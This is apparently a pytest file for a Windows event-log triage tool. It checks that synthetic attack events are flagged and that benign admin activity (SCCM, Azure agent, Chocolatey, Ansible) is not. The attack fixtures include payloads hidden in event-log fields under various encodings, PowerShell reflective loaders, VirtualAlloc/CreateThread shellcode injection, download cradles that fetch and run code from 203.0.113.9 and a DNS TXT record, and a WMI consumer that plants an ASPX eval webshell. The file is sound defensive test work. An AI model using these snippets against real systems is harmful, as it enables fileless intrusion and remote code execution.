# ruff: noqa: E501 - events are long
"""States that the rules were not made with: attacks that must be raised, and work that must not be."""

from __future__ import annotations

import base64
import gzip
import json
import random
import uuid
import zlib

import pytest

from tests.content import payloads
from tests.evtx.events import POWERSHELL, SECURITY, classic, event, indicators, judged, sysmon
from triage.content.rc4 import crypt
from triage.events.reader import Raw
from triage.model import Report

R = random.Random(99)
SC = payloads.shellcode(R) + R.randbytes(6000)
PE = payloads.pe(R)
KMS = "Key Management Service"
S = "C:\\Windows\\System32\\"
PWSH = S + "WindowsPowerShell\\v1.0\\powershell.exe"
PS_LOG = "Microsoft-Windows-PowerShell/Operational"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def chunks(data: bytes, count: int) -> list[bytes]:
    size = -(-len(data) // count)
    return [data[at : at + size] for at in range(0, len(data), size)]


def cut(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def block(
    script: str, rec: int = 1, num: int = 1, tot: int = 1, bid: str = "b", path: str = ""
) -> Raw:
    data = {
        "MessageNumber": num,
        "MessageTotal": tot,
        "ScriptBlockText": script,
        "ScriptBlockId": bid,
        "Path": path,
    }
    return event(POWERSHELL, 4104, data, record=rec, channel=PS_LOG)


def wmi5861(cause: str, consumer: str) -> Raw:
    data = {
        "Namespace": "//./root/subscription",
        "ESS": "u",
        "CONSUMER": consumer,
        "PossibleCause": cause,
    }
    return event(
        "Microsoft-Windows-WMI-Activity",
        5861,
        {"Operation_ESStoConsumerBinding": data},
        section="UserData",
    )


def start(image: str, command: str, parent: str) -> Raw:
    return sysmon(1, Image=image, CommandLine=command, ParentImage=parent, ProcessId=5)


ATTACKS: dict[str, list[Raw]] = {}
ATTACKS["kms b64 per piece, 4 pieces"] = [
    classic(KMS, 1000 + 0, b64(p), record=i + 1, channel=KMS) for i, p in enumerate(chunks(SC, 4))
]
ATTACKS["kms hex/b64/raw mixed"] = [
    classic(KMS, 1423, record=1, channel=KMS, binary=chunks(SC, 3)[0].hex().upper()),
    classic(KMS, 1423, b64(chunks(SC, 3)[1]), record=2, channel=KMS),
    classic(KMS, 1423, chunks(SC, 3)[2].hex(), record=3, channel=KMS),
]
ATTACKS["pe b64 split text over app log unknown provider"] = [
    classic("Acme Sync", 9, t, record=i + 1)
    for i, t in enumerate([b64(PE)[i : i + 3000] for i in range(0, len(b64(PE)), 3000)])
]
ATTACKS["pe xor 0x5a in binary"] = [
    classic("Acme", 3, "ok", binary=bytes(x ^ 0x5A for x in PE).hex().upper())
]
ATTACKS["sc zlib b64 in manifest provider field"] = [
    event("Acme-Agent", 7, {"State": b64(zlib.compress(PE)), "Code": 3})
]
ATTACKS["decimal list of bytes"] = [
    event("Acme-Agent", 7, {"State": ",".join(str(x) for x in SC[:1500])})
]
ATTACKS["payload in nested UserData"] = [
    event(
        "Acme-Agent",
        7,
        {"EventXML": {"Param1": "ok", "Inner": {"Blob": b64(PE)}}},
        section="UserData",
    )
]
ATTACKS["sc in Binary of known provider MsiInstaller"] = [
    classic("MsiInstaller", 1033, "Product", "1", binary=SC.hex().upper())
]
ATTACKS["utf16 b64 reversed"] = [classic("Acme", 3, b64(PE)[::-1])]
ATTACKS["gz b64 powershell script in event"] = [
    classic(
        "Acme",
        3,
        b64(
            gzip.compress(
                b"$c=New-Object Net.WebClient;IEX $c.DownloadString('http://203.0.113.9/x.ps1');"
                + b"#pad " * 40
            )
        ),
    )
]
ATTACKS["reflection w/o strings 1"] = [
    block(
        "$t=[AppDomain]::CurrentDomain.GetAssemblies()|?{$_.GlobalAssemblyCache};$m=$t[0].GetType().GetMethod('Lo'+'ad',[type[]]@([byte[]]));$a=$m.Invoke($null,@(,$bytes));$a.EntryPoint.Invoke($null,@(,[string[]]@()))"
    )
]
ATTACKS["reflection w/o strings 2 ps join"] = [
    block(
        "$n=-join([char[]](76,111,97,100));$r=('Syst'+'em.Refl'+'ection.Ass'+'embly') -as [type];$r.GetMethod($n,[type[]]@([byte[]])).Invoke($null,(,([Convert]::('From'+'Base64String').Invoke($p))))"
    )
]
ATTACKS["add-type winapi"] = [
    block(
        '$k=Add-Type -MemberDefinition \'[DllImport("kernel32")]public static extern IntPtr VirtualAlloc(IntPtr a,uint b,uint c,uint d);[DllImport("kernel32")]public static extern IntPtr CreateThread(IntPtr a,uint b,IntPtr c,IntPtr d,uint e,IntPtr f);\' -Name w -Namespace q -PassThru;$x=$k::VirtualAlloc(0,$b.Length,0x3000,0x40);[Runtime.InteropServices.Marshal]::Copy($b,0,$x,$b.Length);$k::CreateThread(0,0,$x,0,0,0)'
    )
]
ATTACKS["event log loader"] = [
    block(
        "$d=Get-WinEvent -LogName 'Key Management Service' | %{$_.Properties[0].Value};$b=[byte[]]($d -join '' -split '(..)' -ne '' | %{[Convert]::ToByte($_,16)});[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)"
    )
]
ATTACKS["ps eventlog writer rawdata"] = [
    block(
        "Write-EventLog -LogName Application -Source 'Acme' -EventId 9 -Message x -RawData ([Convert]::FromBase64String($p)) -Category 0"
    )
]
LOADER = (
    "$a='"
    + b64(PE)
    + "';[Reflection.Assembly]::Load([Convert]::FromBase64String($a)).EntryPoint.Invoke($null,$null)"
)
PARTS = cut(LOADER, 2000)
ATTACKS["4104 out of order"] = [
    block(p, rec=len(PARTS) - i, num=i + 1, tot=len(PARTS), bid="x")
    for i, p in reversed(list(enumerate(PARTS)))
]
ATTACKS["4104 missing parts"] = [
    block(p, rec=i + 1, num=i + 1, tot=len(PARTS), bid="x") for i, p in enumerate(PARTS) if i != 1
]
ATTACKS["4104 last part only"] = [
    block(PARTS[-1][-400:], rec=9, num=len(PARTS), tot=len(PARTS), bid="x")
]
ATTACKS["5861 logfile consumer webshell"] = [
    wmi5861(
        'instance of LogFileEventConsumer { Name = "u"; Filename = "C:\\\\inetpub\\\\wwwroot\\\\a.aspx"; Text = "<%@ Page Language=\\"Jscript\\"%><%eval(Request.Item[\\"x\\"],\\"unsafe\\");%>"; };',
        'LogFileEventConsumer="u"',
    )
]
ATTACKS["5861 custom derived consumer class"] = [
    wmi5861(
        'instance of UpdaterConsumer { Name = "u"; CommandLineTemplate = "powershell -nop -w hidden -enc SQBFAFgA"; };',
        'UpdaterConsumer="u"',
    )
]
ATTACKS["5861 commandline with exe only"] = [
    wmi5861(
        'instance of CommandLineEventConsumer { Name = "u"; ExecutablePath = "C:\\\\ProgramData\\\\x\\\\u.exe"; };',
        'CommandLineEventConsumer="u"',
    )
]
ATTACKS["cleared + gap"] = [
    event(
        "Microsoft-Windows-Eventlog",
        1102,
        {"LogFileCleared": {"SubjectUserName": "a"}},
        section="UserData",
        record=500,
    )
] + [event("P", 1, {"a": 1}, record=n) for n in (501, 502, 900)]
ATTACKS["time jump"] = [
    event("P", 1, {"a": 1}, record=1, time="2024-05-11T10:00:00.0Z"),
    event("P", 1, {"a": 1}, record=2, time="2024-05-09T10:00:00.0Z"),
]
ATTACKS["sysmon 8 start in unbacked w/ ? module"] = [
    sysmon(
        8,
        SourceImage="C:\\Program Files\\Acme\\a.exe",
        TargetImage="C:\\Windows\\System32\\svchost.exe",
        StartAddress="0x0000020F00000000",
        StartModule="?",
        StartFunction="?",
    )
]
ATTACKS["ps 800 pipeline details w/ add-type b64"] = [
    classic(
        "PowerShell",
        800,
        "$x=[Convert]::FromBase64String($env:APPDATA_X);[System.Threading.Thread]::GetDomain().Load($x)",
        "\tDetailSequence=1\r\n\tHostApplication=powershell.exe -c x\r\n\tEngineVersion=5.1\r\n\tCommandLine=x",
    )
]
ATTACKS["4698 task with b64 in args of pwsh stdin"] = [
    event(
        SECURITY,
        4698,
        {
            "TaskName": "\\u",
            "TaskContent": "<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/c type C:\\ProgramData\\a.txt | powershell -nop -</Arguments></Exec></Actions></Task>",
        },
    )
]
ATTACKS["service pieces"] = [
    event(
        "Service Control Manager",
        7045,
        {
            "ServiceName": b64(zlib.compress(PE, 9))[i * 180 : (i + 1) * 180],
            "ImagePath": "%COMSPEC% /c rem",
            "ServiceType": "user",
        },
        record=i + 1,
    )
    for i in range(12)
]
ATTACKS["base85 in event"] = [classic("Acme", 1, base64.b85encode(PE).decode())]
ATTACKS["base32 in event"] = [event("Acme", 1, {"D": base64.b32encode(PE).decode()})]
ATTACKS["uuid list shellcode"] = [
    event(
        "Acme",
        1,
        {
            "D": ",".join(
                str(uuid.UUID(bytes_le=SC[i : i + 16])) for i in range(0, len(SC) - 16, 16)
            )
        },
    )
]
ATTACKS["ipv4 list shellcode"] = [
    event(
        "Acme",
        1,
        {"D": " ".join(".".join(str(x) for x in SC[i : i + 4]) for i in range(0, 2000, 4))},
    )
]
ATTACKS["hex with 0x sep"] = [event("Acme", 1, {"D": ", ".join(f"0x{x:02x}" for x in SC[:1200])})]
ATTACKS["b64 one piece per event field A/B alternate"] = [
    event("Acme", 1, {("A" if i % 2 else "B"): t}, record=i + 1)
    for i, t in enumerate([b64(PE)[i : i + 1500] for i in range(0, len(b64(PE)), 1500)])
]
ATTACKS["pieces across different event ids same provider"] = [
    classic("Acme", 100 + i, t, record=i + 1)
    for i, t in enumerate([b64(PE)[i : i + 2500] for i in range(0, len(b64(PE)), 2500)])
]
ATTACKS["pieces each b64-encoded separately w/ seq header"] = [
    classic("Acme", 9, f"{i:02d}:" + b64(c), record=i + 1) for i, c in enumerate(chunks(PE, 6))
]
ATTACKS["small pieces 60 chars in many events"] = [
    classic("Acme", 9, t, record=i + 1)
    for i, t in enumerate([b64(PE)[i : i + 60] for i in range(0, min(len(b64(PE)), 9000), 60)])
]
ATTACKS["data in UserData xml string"] = [
    event("Acme", 1, {"X": {"Text": "<c><v>" + b64(PE) + "</v></c>"}}, section="UserData")
]
ATTACKS["rc4 payload w/ key in other field"] = [
    event("Acme", 1, {"K": "s3cr3tkey", "D": crypt(b"s3cr3tkey", PE).hex().upper()})
]
ATTACKS["ps iex from get-eventlog short"] = [
    block("(Get-EventLog Application -Source Acme -Newest 1).Message|&(gcm i*x)")
]
ATTACKS["ps assembly via bytes & invokeMember"] = [
    block(
        "$z=[System.AppDomain]::CurrentDomain;$y=$z.Load([byte[]]$q);$y.GetTypes()[0].GetMethods()[0].Invoke($null,$null)"
    )
]
ATTACKS["ps delegate w/ reflection emit"] = [
    block(
        "$d=[AppDomain]::CurrentDomain.DefineDynamicAssembly((New-Object Reflection.AssemblyName('x')),[Reflection.Emit.AssemblyBuilderAccess]::Run);$m=$d.DefineDynamicModule('m',$false);$t=$m.DefineType('t');[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)"
    )
]
ATTACKS["ps backtick/format obf"] = [
    block("&(\"{1}{0}\"-f'X','IE') (\"{2}{0}{1}\"-f'Web','Client','Net.')")
]
ATTACKS["ps download cradle short aliases"] = [
    block("powershell . (nslookup -q=txt some.owned.domain.com)[-1]")
]
ATTACKS["ps registry loader"] = [
    block(
        "$k=(gp 'HKCU:\\Software\\Acme').Blob;$a=[Reflection.Assembly]::Load($k);$a.EntryPoint.Invoke(0,$null)"
    )
]
ATTACKS["jscript activeX 4688"] = [
    event(
        SECURITY,
        4688,
        {
            "NewProcessName": S + "mshta.exe",
            "CommandLine": "mshta.exe \"about:<script>new ActiveXObject('WScript.Shell').Run(new ActiveXObject('WScript.Shell').RegRead('HKCU\\\\Software\\\\a\\\\b'))</script>\"",
            "ParentProcessName": S + "svchost.exe",
        },
    )
]
ATTACKS["wmi class read cmd"] = [
    start(
        S + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell -c \"iex ([wmiclass]'root\\default:Win32_Cfg').Properties['v'].Value\"",
        S + "svchost.exe",
    )
]
ATTACKS["process hollow 25 locked"] = [
    sysmon(25, Image=S + "dllhost.exe", Type="Image is locked for access")
]
ATTACKS["dll from webdav load"] = [
    sysmon(
        7,
        Image=S + "rundll32.exe",
        ImageLoaded="\\\\10.0.0.9@8080\\DavWWWRoot\\x.dll",
        Signed="false",
    )
]
ATTACKS["clr in spoolsv"] = [
    sysmon(
        7,
        Image=S + "spoolsv.exe",
        ImageLoaded="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
        Signed="true",
    )
]
ATTACKS["task com handler dll temp 129"] = [
    event(
        "Microsoft-Windows-TaskScheduler",
        200,
        {"TaskName": "\\u", "ActionName": "C:\\Users\\Public\\x.exe"},
    )
]
ATTACKS["bits notify cmdline 4688"] = [
    event(
        SECURITY,
        4688,
        {
            "NewProcessName": S + "bitsadmin.exe",
            "CommandLine": 'bitsadmin /SetNotifyCmdLine job C:\\Windows\\System32\\cmd.exe "/c start C:\\ProgramData\\a.exe"',
            "ParentProcessName": S + "cmd.exe",
        },
    )
]
ATTACKS["eventid 0 huge text script vbs"] = [
    classic(
        "Acme",
        0,
        'Set s=CreateObject("WScript.Shell")\r\nExecute(Chr(115)&Chr(46)&Chr(82)&Chr(117)&Chr(110)&Chr(32)&Chr(34)&Chr(99)&Chr(97)&Chr(108)&Chr(99)&Chr(34))\r\n'
        * 3,
    )
]
ATTACKS["ntevent consumer with payload"] = [
    wmi5861(
        'instance of NTEventLogEventConsumer { Name = "SCM"; InsertionStringTemplates = {"'
        + b64(PE)
        + '"}; };',
        'NTEventLogEventConsumer="SCM"',
    )
]
ATTACKS["sysmon 13 b64 in services param"] = [
    sysmon(
        13,
        EventType="SetValue",
        TargetObject="HKLM\\System\\CurrentControlSet\\Services\\x\\Parameters\\Blob",
        Details=b64(SC[:1500]),
        Image="C:\\Program Files\\V\\v.exe",
    )
]
ATTACKS["long hex in 7036-like 7045 path"] = [
    event(
        "Service Control Manager",
        7045,
        {
            "ServiceName": "x",
            "ImagePath": "powershell.exe -c $b='"
            + PE.hex()[:20000]
            + "';[Reflection.Assembly]::Load([byte[]]($b -split '(..)' -ne ''|%{[byte]('0x'+$_)}))",
        },
    )
]

BENIGN: dict[str, list[Raw]] = {}
BENIGN["sccm ps detection script"] = [
    start(
        PWSH,
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NonInteractive -NoLogo -NoProfile -ExecutionPolicy Bypass -Command "& { . \'C:\\Windows\\CCM\\SystemTemp\\3c1b2e7e-bc63-4c0f-9b1f-1234567890ab.ps1\' | Out-String } "',
        "C:\\Windows\\CCM\\CcmExec.exe",
    )
]
BENIGN["sccm script block"] = [
    block(
        "$Key='HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*';Get-ItemProperty $Key | Where-Object {$_.DisplayName -like '*Vendor Agent*' -and [version]$_.DisplayVersion -ge [version]'4.2'} | Select-Object -First 1",
        path="C:\\Windows\\CCM\\SystemTemp\\x.ps1",
    )
]
BENIGN["ccm wmi consumers"] = [
    wmi5861(
        'instance of CCM_PolicyAgent_EventConsumer { Name = "PolicyAgent"; };',
        'CCM_PolicyAgent_EventConsumer="PolicyAgent"',
    )
]
BENIGN["azure guest agent ps"] = [
    start(
        PWSH,
        "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -File C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\1.10.15\\Downloads\\0\\setup.ps1 -Name vm1",
        S + "cmd.exe",
    )
]
BENIGN["azure guest agent cmd"] = [
    start(
        S + "cmd.exe",
        "cmd /c powershell -ExecutionPolicy Unrestricted -File enable.ps1",
        "C:\\WindowsAzure\\GuestAgent_2.7.41491\\WindowsAzureGuestAgent.exe",
    )
]
BENIGN["chocolatey install script"] = [
    block(
        "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; $packageArgs = @{ packageName='git'; fileType='exe'; url='https://github.com/git-for-windows/git/releases/download/v2.44/Git.exe'; checksum='a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90'; checksumType='sha256'}; Install-ChocolateyPackage @packageArgs",
        path="C:\\ProgramData\\chocolatey\\lib\\git\\tools\\chocolateyInstall.ps1",
    )
]
BENIGN["choco helper iex"] = [
    block(
        "function Get-WebFile { param($url,$fileName) $req=[System.Net.HttpWebRequest]::Create($url); $req.UserAgent='chocolatey'; $res=$req.GetResponse(); $reader=$res.GetResponseStream(); [byte[]]$buffer=new-object byte[] 1048576; do { $count=$reader.Read($buffer,0,$buffer.Length); $writer.Write($buffer,0,$count) } while ($count -gt 0) }"
    )
]
BENIGN["dsc resource"] = [
    block(
        "Configuration WebServer { Import-DscResource -ModuleName PSDesiredStateConfiguration; Node localhost { WindowsFeature IIS { Ensure='Present'; Name='Web-Server' }; Script S { GetScript={@{}}; SetScript={ New-Item -Path C:\\x -Force }; TestScript={ Test-Path C:\\x } } } }"
    )
]
BENIGN["exchange mgmt shell"] = [
    block(
        ". 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\RemoteExchange.ps1'; Connect-ExchangeServer -auto -ClientApplication:ManagementShell; $script:ser=[System.Management.Automation.PSSerializer]::Serialize($x); [Convert]::FromBase64String($cert) | Out-Null; [Reflection.Assembly]::LoadWithPartialName('Microsoft.Exchange.Data') | Out-Null"
    )
]
BENIGN["module with dll load from file"] = [
    block(
        "$ErrorActionPreference='Stop'; $dll=Join-Path $PSScriptRoot 'lib\\Newtonsoft.Json.dll'; Add-Type -Path $dll; [System.Reflection.Assembly]::LoadFrom($dll) | Out-Null; Export-ModuleMember -Function *",
        path="C:\\Program Files\\WindowsPowerShell\\Modules\\X\\1.0\\X.psm1",
    )
]
BENIGN["admin add-type p/invoke user32"] = [
    block(
        'Add-Type @"\nusing System;using System.Runtime.InteropServices;public class W{[DllImport("user32.dll")]public static extern bool ShowWindow(IntPtr h,int n);}\n"@\n[W]::ShowWindow((Get-Process -Id $PID).MainWindowHandle,0)'
    )
]
BENIGN["base64 icon in admin gui"] = [
    block(
        "$iconB64='"
        + b64(bytes.fromhex("89504e470d0a1a0a0000000d49484452") + R.randbytes(900))
        + "';$ms=New-Object IO.MemoryStream(,[Convert]::FromBase64String($iconB64));$form.Icon=[Drawing.Image]::FromStream($ms)"
    )
]
BENIGN["gpo logon script"] = [
    start(
        S + "wscript.exe",
        '"C:\\Windows\\System32\\WScript.exe" "\\\\corp.example\\SysVol\\corp.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\User\\Scripts\\Logon\\map.vbs"',
        S + "gpscript.exe",
    )
]
BENIGN["av update task"] = [
    event(
        SECURITY,
        4702,
        {
            "TaskName": "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan",
            "TaskContentNew": "<Task><Actions><Exec><Command>C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24040.4-0\\MpCmdRun.exe</Command><Arguments>Scan -ScheduleJob -ScanTrigger 55</Arguments></Exec></Actions></Task>",
        },
    )
]
BENIGN["veeam vss service"] = [
    event(
        "Service Control Manager",
        7045,
        {
            "ServiceName": "VeeamVssSupport",
            "ImagePath": "C:\\Windows\\VeeamVssSupport\\VeeamGuestHelper.exe",
            "ServiceType": "user mode service",
        },
    )
]
BENIGN["veeam wmi exec"] = [
    start(
        "C:\\Windows\\VeeamVssSupport\\VeeamGuestHelper.exe",
        "VeeamGuestHelper.exe -svc",
        S + "services.exe",
    )
]
BENIGN["backup wmi query 5858"] = [
    event(
        "Microsoft-Windows-WMI-Activity",
        5858,
        {
            "Operation_ClientFailure": {
                "ClientMachine": "SRV",
                "User": "NT AUTHORITY\\SYSTEM",
                "ClientProcessId": 4,
                "Operation": "Start IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM Win32_ShadowCopy",
                "ResultCode": "0x80041032",
                "PossibleCause": "Unknown",
            }
        },
        section="UserData",
    )
]
BENIGN["hp wmi subscription"] = [
    wmi5861(
        'instance of NTEventLogEventConsumer { Name = "HP"; Category=0; };',
        'NTEventLogEventConsumer="HP"',
    )
]
BENIGN["dell consumer"] = [
    event(
        "Microsoft-Windows-WMI-Activity",
        5860,
        {
            "Operation_TemporaryEssStarted": {
                "NamespaceName": "root\\DCIM\\SYSMAN",
                "Query": "select * from DCIM_AlertIndication",
                "User": "NT AUTHORITY\\SYSTEM",
            }
        },
        section="UserData",
    )
]
BENIGN["teams squirrel update"] = [
    start(
        "C:\\Users\\a\\AppData\\Local\\Microsoft\\Teams\\Update.exe",
        'C:\\Users\\a\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe" --process-start-args "--system-initiated"',
        "C:\\Windows\\explorer.exe",
    ),
    sysmon(
        13,
        EventType="SetValue",
        TargetObject="HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\com.squirrel.Teams.Teams",
        Details='C:\\Users\\a\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe"',
        Image="C:\\Users\\a\\AppData\\Local\\Microsoft\\Teams\\Update.exe",
    ),
]
BENIGN["onedrive run value"] = [
    sysmon(
        13,
        EventType="SetValue",
        TargetObject="HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
        Details='"C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
        Image="C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
    )
]
BENIGN["vscode terminal"] = [
    start(
        PWSH,
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -command "try { . \\"c:\\Users\\a\\AppData\\Local\\Programs\\Microsoft VS Code\\resources\\app\\out\\vs\\workbench\\contrib\\terminal\\browser\\media\\shellIntegration.ps1\\" } catch {}"',
        "C:\\Users\\a\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
    )
]
BENIGN["msi custom action .net"] = [
    sysmon(
        7,
        Image=S + "rundll32.exe",
        ImageLoaded="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
        Signed="true",
    ),
    start(
        S + "rundll32.exe",
        'rundll32.exe "C:\\Windows\\Installer\\MSI1A2B.tmp",zzzzInvokeManagedCustomActionOutOfProc SfxCA_123 2 CustomAction!X',
        S + "msiexec.exe",
    ),
]
BENIGN["intune mgmt ext"] = [
    start(
        PWSH,
        '"powershell.exe" -NoProfile -executionPolicy bypass -file  "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\DetectionScripts\\a_1.ps1"',
        "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe",
    )
]
BENIGN["ansible winrm"] = [
    start(
        PWSH,
        "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand "
        + base64.b64encode(
            '&chcp.com 65001 > $null\n$exec_wrapper_str = $input | Out-String\n$split_parts = $exec_wrapper_str.Split(@("`0`0`0`0"), 2, [StringSplitOptions]::RemoveEmptyEntries)\nIf (-not $split_parts.Length -eq 2) { throw "invalid payload" }\nSet-Variable -Name json_raw -Value $split_parts[1]\n$exec_wrapper = [ScriptBlock]::Create($split_parts[0])\n&$exec_wrapper'.encode(
                "utf-16-le"
            )
        ).decode(),
        S + "winrshost.exe",
    )
]
BENIGN["sql cert blob event"] = [
    classic(
        "MSSQLSERVER",
        33205,
        "audit_schema_version:1 event_time:2024-05-11 server_principal_sid:0x010500000000000515000000 statement:SELECT name, value FROM sys.configurations WHERE name = 'x' additional_information:<action_info xmlns=\"http://schemas.microsoft.com/sqlserver/2008/sqlaudit_data\"><session>x</session></action_info>",
    )
]
BENIGN["crash report text"] = [
    classic(
        "Windows Error Reporting",
        1001,
        "123",
        "5",
        "CLR20r3",
        "Not available",
        "0",
        "vendor.exe",
        "1.0.0.0",
        "5f2c",
        "System.Net",
        "4.0",
        "5e",
        "27e4",
        "105",
        "System.Net.WebException",
        "",
        "\r\n\\\\?\\C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\WER1.tmp.dmp",
    )
]
BENIGN["security-spp"] = [
    event("Microsoft-Windows-Security-SPP", 8200, {"A": b64(R.randbytes(600))})
]
BENIGN["vendor json telemetry"] = [
    event(
        "Contoso-Agent",
        100,
        {
            "Message": json.dumps(
                {
                    "id": str(uuid.UUID(int=R.getrandbits(128))),
                    "items": [
                        {"name": f"disk{i}", "free": R.randrange(10**9), "ts": 1700000000 + i}
                        for i in range(40)
                    ],
                }
            )
        },
    )
]
BENIGN["jwt token in event"] = [
    event(
        "Contoso-Agent",
        101,
        {
            "Token": "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9."
            + b64(
                json.dumps(
                    {
                        "aud": "https://x",
                        "iss": "https://sts.windows.net/abc/",
                        "exp": 1700000000,
                        "roles": ["a", "b"],
                    }
                ).encode()
            ).rstrip("=")
            + "."
            + b64(R.randbytes(256)).rstrip("=").replace("/", "_").replace("+", "-")
        },
    )
]
BENIGN["cert thumb list"] = [
    event(
        "Contoso-Agent", 102, {"Certs": ";".join(R.randbytes(20).hex().upper() for _ in range(12))}
    )
]
BENIGN["dotnet stack trace"] = [
    classic(
        "ASP.NET 4.0.30319.0",
        1309,
        "3005",
        "An unhandled exception has occurred.",
        "System.Web.HttpException (0x80004005): at System.Web.HttpRuntime.ProcessRequest(HttpWorkerRequest wr) at System.Web.Hosting.PipelineRuntime.ProcessRequestNotificationHelper(IntPtr rootedObjectsPointer, IntPtr nativeRequestContext, IntPtr moduleData, Int32 flags) __VIEWSTATE=/wEPDwUKMTY1NDU2MTA1MmRk",
    )
]


#: What shows a state of the log, not an attack; and what nobody can tell from work of one's own.
STATES = {"cleared + gap": "medium", "time jump": "info"}
UNDECIDED = {"ansible winrm", "msi custom action .net"}
RANK = {"none": 0, "info": 1, "low": 2, "medium": 3, "high": 4, "critical": 5}


def worst(report: Report) -> str:
    return max((s.severity.value for s in report.subjects), key=RANK.__getitem__, default="none")


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_an_attack_is_raised(name: str) -> None:
    report = judged(*ATTACKS[name])
    assert RANK[worst(report)] >= RANK[STATES.get(name, "medium")]
    assert indicators(report)


@pytest.mark.parametrize("name", sorted(BENIGN.keys() - UNDECIDED))
def test_work_is_not_raised(name: str) -> None:
    assert RANK[worst(judged(*BENIGN[name]))] <= RANK["low"]
